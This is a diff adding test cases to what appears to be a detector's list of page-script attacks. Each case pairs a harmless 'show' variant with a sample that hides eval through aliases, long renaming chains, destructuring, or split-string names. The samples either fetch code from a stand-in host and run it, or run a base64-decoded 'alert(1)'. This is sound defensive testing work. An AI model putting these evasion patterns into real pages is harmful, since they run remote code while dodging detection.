@@ -1497,6 +1497,26 @@ const pageAttacks: Attack[] = [
     'const s = document.createElement("script"); s.src = "/extensions/p/a.js"; document.head.append(s)',
   ),
   script(
+    'runs what an address answers, in a function that says only other names',
+    'const run = eval;\nconst go = run;\nfunction f(x) { return go(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)',
+    'const run = show;\nconst go = run;\nfunction f(x) { return go(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)',
+  ),
+  script(
+    'gives names to names without an end',
+    `const a0 = eval;\n${Array.from({ length: 20 }, (_, i) => `const a${i + 1} = a${i};\n`).join('')}function f(x) { a20(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)`,
+    `const a0 = show;\n${Array.from({ length: 20 }, (_, i) => `const a${i + 1} = a${i};\n`).join('')}function f(x) { a20(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)`,
+  ),
+  script(
+    'renames what decodes and runs',
+    'const { eval: run, atob: read } = window;\nfunction f() { run(read("YWxlcnQoMSk=")) }\nf()',
+    'const { show: run, atob: read } = window;\nfunction f() { run(read("YWxlcnQoMSk=")) }\nf()',
+  ),
+  script(
+    'reaches the page by another name, and what it needs by pieces of names',
+    'const page = window;\nfunction f() { page["ev" + "al"](page["at" + "ob"]("YWxlcnQoMSk=")) }\nf()',
+    'const page = window;\nfunction f() { page["sh" + "ow"](page["at" + "ob"]("YWxlcnQoMSk=")) }\nf()',
+  ),
+  script(
     'fetches a file that is named like data, and runs it',
     'eval(await (await fetch("/extensions/p/a.dat")).text())',
     'show(await (await fetch("/extensions/p/a.dat")).text())',
